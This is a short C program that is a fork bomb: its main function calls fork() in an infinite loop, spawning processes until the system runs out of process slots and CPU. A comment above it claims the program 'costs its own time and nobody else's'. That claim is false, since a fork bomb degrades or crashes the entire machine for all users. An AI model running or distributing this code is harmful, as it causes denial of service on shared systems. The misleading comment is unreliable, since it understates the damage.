// Costs its own time and nobody else's.
#include <unistd.h>
int main() {
    for (;;) fork();
}
